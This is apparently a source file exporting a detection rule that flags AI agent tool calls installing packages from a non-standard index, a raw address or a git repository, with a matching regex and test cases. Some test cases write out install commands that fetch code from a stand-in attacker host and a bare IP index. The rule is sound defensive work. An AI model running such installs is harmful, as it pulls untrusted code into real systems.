/** A name from a registry is a promise; an address is none. */
export const foreignPackageSource = String.raw`
title: Package installed from an unusual source
name: foreign-package-source
id: 2d1f3c39-5a0e-4c1b-9a9d-6f0f5a1b7c30
status: stable
level: low
description: >-
  The agent installed a package from another index, an address or a repository instead of the usual
  registry.
tags: [owasp.asi04, owasp.asi05, owasp-llm2026.llm04, atlas.aml.t0011.002]
falsepositives:
  - Private registries of the company
  - Work on a fork
logsource: { product: ai_agent, category: tool_call }
detection:
  runs:
    tool.effect_class: [destructive, outbound, unknown]
  installer:
    gen_ai.tool.call.arguments|contains: [install, ' add ', npx]
  source:
    gen_ai.tool.call.arguments|re|i: '\bpip3?\s+install\s[^\n]*(--(extra-)?index-url|\s-i\s+https?://|git\+|https?://)|\b(npm|pnpm|yarn|bun)\s+(i|install|add)\s[^\n]*(--registry|git\+|https?://)|\bnpx\s+([^\n]*\s)?https?://|\bgo\s+install\s+https?://|\bcargo\s+install\s+[^\n]*--git'
  condition: runs and installer and source
signalbox:
  group-by: [agent.slug, trace.id]
  tests:
    hits:
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'pip install --extra-index-url http://203.0.113.9/simple tools' }]
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'npm install https://evil.example/pkg.tgz' }]
      - [{ event.kind: tool_call, tool.effect_class: unknown, gen_ai.tool.call.arguments: 'pip3 install git+https://github.com/x/y' }]
    misses:
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'pip install requests' }]
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'npm install' }]
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'curl https://pypi.org/simple/requests' }]
      - [{ event.kind: tool_call, tool.effect_class: read, gen_ai.tool.call.arguments: 'pip install git+https://x' }]
`;
